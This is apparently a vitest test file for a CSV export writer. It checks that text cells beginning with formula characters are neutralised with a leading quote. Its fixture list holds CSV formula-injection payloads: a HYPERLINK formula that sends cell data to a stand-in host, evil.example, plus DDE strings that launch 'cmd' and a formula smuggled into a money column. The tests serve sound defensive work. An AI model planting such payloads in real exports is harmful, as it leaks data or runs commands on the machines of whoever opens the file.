import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvWriter } from './export.js';

/** Writes rows through the export's CSV writer and reads the text back. */
async function csvOf(rows: Array<Array<string | number>>): Promise<string> {
  const csv = csvWriter([{ header: 'Cliente' }, { header: 'Precio', money: true }]);
  const chunks: Buffer[] = [];
  csv.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
  const done = new Promise<void>((resolve, reject) => {
    csv.on('end', resolve);
    csv.on('error', reject);
  });
  for (const r of rows) csv.write(r);
  csv.end();
  await done;
  return Buffer.concat(chunks)
    .toString('utf8')
    .replace(/^\uFEFF/, '');
}

describe('CSV formula injection (issue 12 #6)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ];

  it('prefixes a quote to every text cell that starts a formula', async () => {
    const cells = parse(await csvOf(attacks.map((a) => [a, '10.00'])), { from_line: 2 }) as string[][];
    expect(cells.map((c) => c[0])).toEqual(attacks.map((a) => `'${a}`));
  });

  it('leaves ordinary text and negative decimals in money columns readable as numbers', async () => {
    const cells = parse(
      await csvOf([
        ['Laura Gómez-Restrepo', '-12.50'],
        ['Ana', '1234.56'],
        ['-5 noches', '0'],
      ]),
      {
        from_line: 2,
      },
    ) as string[][];
    expect(cells).toEqual([
      ['Laura Gómez-Restrepo', '-12.50'],
      ['Ana', '1234.56'],
      ["'-5 noches", '0'],
    ]);
  });

  it('still neutralises a formula smuggled into a money column', async () => {
    const cells = parse(await csvOf([['Ana', '-1+1|cmd']]), { from_line: 2 }) as string[][];
    expect(cells[0][1]).toBe("'-1+1|cmd");
  });
});
